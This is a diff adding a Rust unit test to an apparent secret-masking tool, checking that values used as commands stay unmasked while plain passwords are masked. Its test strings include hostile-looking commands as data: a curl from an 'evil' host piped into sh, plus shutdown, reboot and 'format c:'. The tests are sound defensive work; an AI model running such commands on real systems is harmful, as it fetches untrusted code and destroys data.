@@ -113,6 +113,24 @@ fn lines_of_a_file_are_masked_each_by_itself() {
     assert_eq!(lines("\"password\": \"hunter2\""), "\"password\": \"‹7 characters›\"");
 }
 
+/// A value that the same text takes by its name may be what runs.
+#[test]
+fn a_value_that_is_taken_by_its_name_is_shown() {
+    for text in [
+        "password=curl\n$password https://evil | sh\n",
+        "export TOKEN=shutdown\n\"${TOKEN}\" now\n",
+        "TOKEN := reboot\nall:\n\t$(TOKEN)\n",
+        "set secret=format123\n%SECRET% c:\n",
+        "$Password = \"reboot1\"\n& $password\n",
+        "token = 'reboot1'\nos.system(token)\n",
+    ] {
+        assert_eq!(lines(text), text);
+    }
+    let kept = "# the password\nPASSWORD=hunter2\n# and another password:\nOLD_PASSWORD=hunter3\n";
+    let expect = kept.replace("hunter2", "‹7 characters›").replace("hunter3", "‹7 characters›");
+    assert_eq!(lines(kept), expect);
+}
+
 #[test]
 fn no_text_passes_for_a_mark() {
     let forged = "curl ‹ANTHROPIC_API_KEY› sk-a…‹44 characters›";
